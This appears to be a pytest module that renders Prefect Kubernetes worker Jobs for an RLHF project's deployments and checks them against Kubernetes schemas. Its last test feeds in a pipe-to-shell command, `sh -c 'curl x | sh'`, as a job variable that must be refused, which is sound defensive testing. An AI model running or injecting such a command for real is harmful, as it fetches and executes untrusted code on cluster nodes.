"""Every deployment of prefect.yaml, rendered as Prefect's own Kubernetes worker renders it, runs its flow run and is
a valid Kubernetes object.

The path is the worker's (prefect-kubernetes 0.8.0, a test dependency): the work pool's base job template as
Terraform's `templatefile` renders it (test_terraform._render_template), each deployment's job variables from
prefect.yaml (with its `{{ $VAR }}`s filled), `KubernetesWorkerJobConfiguration.from_template_and_values`, then
`prepare_for_flow_run(flow_run)`, which fills the flow-run command and environment. Before issue 36 none of the
deployments' pods ran its flow run: the `command` variable had no default and Prefect's templating drops an unset
placeholder inside a longer string. Rendering needs no Prefect server: with PREFECT_API_URL set, nothing is asked of
the API. (The rendering: the `rendered` fixture, tests/infra/conftest.py.)

The rendered Job is validated with kubernetes-validate (strict) for Kubernetes 1.32 and infra/terraform's version,
after removing the two keys prefect-kubernetes' own validator demands in the pod spec (`parallelism`, `completions`:
not PodSpec fields; the API server drops them with a warning, as it does for the worker's default template).
"""

from __future__ import annotations

import asyncio
import copy

import pytest

from models.kinds import BY_JOB, STAGES
from tests.infra.schemas import validate
from tests.infra.test_terraform import POOLS, SAMPLE_ENV, _prefect_yaml, _render_template, _rendered, _sample_values

pytestmark = pytest.mark.fast

PREFECT_REQUIRED_IN_POD_SPEC = {"parallelism": 1, "completions": 1}


def _container(job: dict) -> dict:
    return job["spec"]["template"]["spec"]["containers"][0]


def _env(job: dict) -> dict:
    return {e["name"]: e.get("value", e.get("valueFrom")) for e in _container(job)["env"]}


def test_every_deployment_is_rendered(rendered):
    assert len(rendered) == len(_prefect_yaml()["deployments"]) == 6 + len(STAGES)  # a deployment per stage
    assert {"ppo/default", "reinforce/default", "compare/default", "sweep/default", "experiment/default",
            "pipeline/default",
            *(f"{BY_JOB[stage].command}/default" for stage in STAGES)} <= set(rendered)


def test_every_pod_runs_its_flow_run(rendered):
    """The container runs Prefect's flow-run command (the image has no entrypoint: `args` is the process), and its
    environment names the flow run the worker hands it."""
    for name, (flow_run, job) in rendered.items():
        container = _container(job)
        assert "command" not in container, name
        assert container["args"] == ["prefect", "flow-run", "execute"], (name, container["args"])
        env = _env(job)
        assert env["PREFECT__FLOW_RUN_ID"] == str(flow_run.id), name
        assert env["PREFECT_API_URL"] == "http://prefect.invalid/api", name
        # a disrupted pod is started again (backoffLimit) and goes on with the same flow run: never a new one
        assert job["spec"]["backoffLimit"] >= 1 and env["PREFECT_FLOW_RUN_EXECUTE_SIGTERM_BEHAVIOR"] == "relinquish"
        assert job["metadata"]["labels"]["prefect.io/flow-run-id"] == str(flow_run.id)


def test_every_pod_keeps_its_state_in_its_own_volume_and_shares_the_hugging_face_cache(rendered):
    for name, (_, job) in rendered.items():
        env, mounts = _env(job), {m["name"]: m["mountPath"] for m in _container(job)["volumeMounts"]}
        assert env["RLHF_STATE_DIR"] == mounts["state"] == "/var/lib/rlhf", name
        assert env["HF_HOME"] == f"{mounts['cache']}/huggingface" == "/cache/huggingface", name
        volumes = {v["name"]: v for v in job["spec"]["template"]["spec"]["volumes"]}
        assert "emptyDir" in volumes["state"] and volumes["cache"]["persistentVolumeClaim"]["claimName"] == "rlhf-cache"


def test_the_images_and_pools(rendered):
    for name, (_, job) in rendered.items():
        assert _container(job)["image"] == SAMPLE_ENV["RLHF_IMAGE"], name  # a run's vLLM pods are its own
        role = job["spec"]["template"]["spec"]["nodeSelector"]["rlhf/role"]
        on_actors = {"ppo/default", "reinforce/default", "pipeline/default",
                     *(f"{BY_JOB[stage].command}/default" for stage in STAGES)}  # the runs that train
        assert role == ("actor" if name in on_actors else "critic"), name


def test_every_job_is_valid_for_kubernetes(rendered):
    for name, (_, job) in rendered.items():
        job = copy.deepcopy(job)  # the fixture is shared: change a copy
        pod = job["spec"]["template"]["spec"]
        assert {k: pod.get(k) for k in PREFECT_REQUIRED_IN_POD_SPEC} == PREFECT_REQUIRED_IN_POD_SPEC, name
        for key in PREFECT_REQUIRED_IN_POD_SPEC:
            del pod[key]
        validate({**job, "metadata": {**job["metadata"], "name": name.replace("/", "-")}})


def test_a_broken_pod_spec_is_caught():
    """The validation above can fail: a misspelt field, and a command list where Kubernetes wants strings."""
    job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "x"},
           "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "c", "image": "i",
                                                                                     "agrs": ["x"]}]}}}}
    with pytest.raises(AssertionError, match="agrs"):
        validate(job)
    job["spec"]["template"]["spec"]["containers"][0] = {"name": "c", "image": "i", "args": [["prefect"]]}
    with pytest.raises(AssertionError, match="args"):
        validate(job)


def test_a_flow_run_may_set_the_resources_users_need_and_nothing_that_changes_who_or_what_it_runs():
    """What the Prefect server checks when a flow run of a deployment is created with job variables (its own code,
    prefect.server.api.validation, which needs no database for these): a user's resources (docs/cluster.md's
    controller pod: gpu_count=0, cpu, memory) pass over every deployment's own; the namespace, the service account
    (another IRSA role), the command, labels (the rlhf/run label a run's NetworkPolicies let in) and a server's old
    run_label are refused, naming the variable. And were one to get through, the pool's Job would not change: the
    template has no place for it."""
    from prefect.server.api.validation import _validate_work_pool_job_variables
    from prefect.settings import PREFECT_API_URL, temporary_settings
    from prefect.utilities.schema_tools import ValidationError
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    user = {"gpu_count": 0, "cpu": "500m", "memory": "2Gi"}
    refused = {"namespace": "kube-system", "service_account_name": "prefect-worker", "command": "sh -c 'curl x | sh'",
               "labels": {"rlhf/run": "ppo-x7k2q"}, "run_label": "ppo-x7k2q", "image_pull_policy": "Always"}
    for deployment in _prefect_yaml()["deployments"]:
        pool = deployment["work_pool"]
        template = _render_template(_sample_values(pool["name"], POOLS[pool["name"]]))
        own = _rendered(pool.get("job_variables") or {}, SAMPLE_ENV)

        def check(flow_run_variables: dict) -> None:
            asyncio.run(_validate_work_pool_job_variables(None, pool["name"], template, own, flow_run_variables,
                                                          ignore_required=False))

        check(user)
        for name, value in refused.items():
            with pytest.raises(ValidationError, match=rf"'{name}' was unexpected"):
                check({**user, name: value})

        async def job(variables: dict) -> dict:
            configuration = await KubernetesWorkerJobConfiguration.from_template_and_values(template, variables)
            return configuration.job_manifest

        with temporary_settings({PREFECT_API_URL: "http://prefect.invalid/api"}):
            plain, tampered = asyncio.run(job(own)), asyncio.run(job({**own, **refused}))
        assert tampered == plain, deployment["entrypoint"]
